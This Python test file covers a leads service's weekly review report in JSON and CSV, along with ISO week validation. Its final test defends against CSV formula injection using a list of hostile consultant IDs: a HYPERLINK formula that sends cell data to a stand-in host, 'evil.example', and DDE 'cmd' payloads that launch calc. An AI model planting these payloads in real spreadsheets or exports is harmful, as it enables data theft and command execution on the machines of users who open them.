"""Issue 10, the weekly review (R2, R13, R17) on real PostgreSQL: per consultant and for the project, JSON and CSV."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

from tests.support.leads import auth, daytime, register

WEDNESDAY = datetime(2026, 3, 4, 4, 0, tzinfo=UTC)  # 12:00 in Shanghai, ISO week 2026-W10


async def _all_on(leads, pid: str, moment: datetime) -> None:
    """Move what the test did (registrations, follow-ups, closings, calls) to one moment."""
    async with leads.pool.acquire() as conn:
        project = uuid.UUID(pid)
        await conn.execute(
            "UPDATE customers SET registered_at = $2::timestamptz, closed_at = CASE WHEN closed_at IS NULL"
            " THEN NULL ELSE $2::timestamptz END WHERE project_id = $1",
            project,
            moment,
        )
        await conn.execute(
            "UPDATE followups SET at = $2 WHERE customer_id IN (SELECT id FROM customers WHERE project_id = $1)",
            project,
            moment,
        )
        await conn.execute(
            "UPDATE calls SET rang_at = $2::timestamptz, answered_at = $2::timestamptz + interval '5 seconds'"
            " WHERE project_id = $1",
            project,
            moment,
        )


async def test_the_weekly_review_counts_each_consultants_week(leads, settings) -> None:
    pid = str(uuid.uuid4())
    needs = {"basic": {}, "needs": {"purpose": "upgrade", "layouts": ["3BR"]}}
    a1 = (await register(leads, settings, pid, "c-a", profile=needs)).json()["id"]
    await register(leads, settings, pid, "c-a", profile=needs)
    b1 = (await register(leads, settings, pid, "c-b")).json()["id"]
    body = {"channel": "phone", "content": "called", "next_contact_at": daytime(2)}
    await leads.client.post(
        f"/v1/customers/{a1}/followups", json=body, headers=auth(settings, "consultant", pid, "c-a")
    )
    await leads.client.post(
        f"/v1/customers/{b1}/close", json={"reason": "price"}, headers=auth(settings, "consultant", pid, "c-b")
    )
    now = datetime.now(UTC)
    call = {
        "project_id": pid,
        "rang_at": (now - timedelta(seconds=40)).isoformat(),
        "answered_at": (now - timedelta(seconds=35)).isoformat(),
    }
    await leads.client.post("/v1/calls", json=call, headers=auth(settings, "consultant", pid, "c-b"))
    await _all_on(leads, pid, WEDNESDAY)  # a fixed past week: the figures cannot straddle a week's edge
    manager, week = auth(settings, "manager", pid), {"week": "2026-W10"}
    review = (await leads.client.get(f"/v1/projects/{pid}/reports/weekly", params=week, headers=manager)).json()
    rows = {row["consultant_id"]: row for row in review["by_consultant"]}
    assert (rows["c-a"]["new_customers"], rows["c-a"]["followups"]) == (2, 1)
    assert (rows["c-b"]["new_customers"], rows["c-b"]["calls"], rows["c-b"]["within_3_rings_rate"]) == (1, 1, 1.0)
    assert rows["c-b"]["lost_by_reason"] == {"price": 1} and review["project"]["loss_reasons"] == {"price": 1}
    assert review["project"]["most_asked_needs"][:2] == [
        {"need": "purpose:upgrade", "customers": 2},
        {"need": "layout:3BR", "customers": 2},
    ]
    csv = await leads.client.get(
        f"/v1/projects/{pid}/reports/weekly", params=week, headers=manager | {"Accept": "text/csv"}
    )
    assert csv.headers["content-type"].startswith("text/csv")
    lines = csv.text.strip().splitlines()
    assert (
        lines[0].startswith("consultant_id,new_customers")
        and lines[2].startswith("c-b,1,")
        and lines[2].endswith("price=1")
    )


async def test_a_week_is_an_iso_week(leads, settings) -> None:
    pid, manager = str(uuid.uuid4()), None
    manager = auth(settings, "manager", pid)
    past = await leads.client.get(f"/v1/projects/{pid}/reports/weekly", params={"week": "2026-W01"}, headers=manager)
    assert (
        past.status_code == 200 and past.json()["by_consultant"] == [] and past.json()["from"].startswith("2025-12-29")
    )
    for bad in ("2026-W60", "26-W01", "2026W01"):
        r = await leads.client.get(f"/v1/projects/{pid}/reports/weekly", params={"week": bad}, headers=manager)
        assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_week"


HOSTILE_STAFF = (
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


async def test_the_weekly_csv_writes_staff_text_as_text_never_a_formula(leads, settings) -> None:
    """Issue 19: a consultant id is whatever the token or a manager's assignment said; in the CSV a cell that a
    spreadsheet would run gets a leading quote, and the week's counts stay numbers."""
    pid = str(uuid.uuid4())
    for sub in HOSTILE_STAFF:
        await register(leads, settings, pid, sub)
    moved = (await register(leads, settings, pid, "c-a")).json()["id"]
    manager = auth(settings, "manager", pid)
    assigned = await leads.client.post(
        f"/v1/customers/{moved}/assign",
        json={"consultant_id": "-2+3+cmd|' /C calc'!A0", "reason": "r"},
        headers=manager,
    )
    assert assigned.status_code == 200, assigned.text
    await _all_on(leads, pid, WEDNESDAY)
    answer = await leads.client.get(
        f"/v1/projects/{pid}/reports/weekly", params={"week": "2026-W10"}, headers=manager | {"Accept": "text/csv"}
    )
    header, *lines = list(csv.reader(io.StringIO(answer.text, newline="")))
    rows = {line[0]: dict(zip(header, line, strict=True)) for line in lines}
    expected = {"'" + sub for sub in (*HOSTILE_STAFF, "-2+3+cmd|' /C calc'!A0")}
    assert set(rows) == expected, sorted(rows)
    assert all(row["new_customers"] == "1" and row["within_3_rings_rate"] == "" for row in rows.values())
